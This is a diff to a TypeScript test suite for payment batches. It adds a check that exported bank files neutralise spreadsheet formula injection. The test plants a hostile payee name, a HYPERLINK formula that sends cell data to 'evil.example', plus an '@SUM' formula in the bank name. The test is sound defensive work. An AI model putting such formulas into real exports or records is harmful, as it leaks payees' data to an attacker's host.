@@ -67,6 +67,9 @@ describe.each(DATABASE_KINDS)("public notice and payment batches on %s", (kind) 
     await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
     const one = await approvedWithBank();
     const two = await approvedWithBank("400000.00");
+    // An applicant chooses its account name and bank: a spreadsheet formula arrives in the bank file as text.
+    const HOSTILE_PAYEE = '=HYPERLINK("http://evil.example/?"&C2,"查看")';
+    await db.prisma.organisation.update({ where: { id: two.enterprise.organisation.id }, data: { bankAccountName: HOSTILE_PAYEE, bankName: "@SUM(1+1)" } });
 
     await expect(createPaymentBatch(db.prisma, plain, AFTER)).rejects.toMatchObject({ code: "forbidden" });
     await expect(createPaymentBatch(db.prisma, payer, DURING)).rejects.toMatchObject({ code: "emptyBatch" });
@@ -89,7 +92,8 @@ describe.each(DATABASE_KINDS)("public notice and payment batches on %s", (kind) 
       expect.stringContaining(one.claim.claimNo),
       expect.any(String),
     ]);
-    expect(rows.find((r) => r[0] === two.enterprise.organisation.nameZh)?.[3]).toBe("80000.00");
+    // Payee and bank neutralised; the account stays digits and the amount a number.
+    expect(rows.find((r) => r[0] === `'${HOSTILE_PAYEE}`)).toEqual([`'${HOSTILE_PAYEE}`, "'@SUM(1+1)", "6216610100009876543", "80000.00", expect.stringContaining(two.claim.claimNo), expect.any(String)]);
 
     const failedItem = items.find((i) => i.ledgerEntryId === two.grant.id)!;
     await markPaymentItemFailed(db.prisma, payer, { itemId: failedItem.id, reason: "账户已销户" });
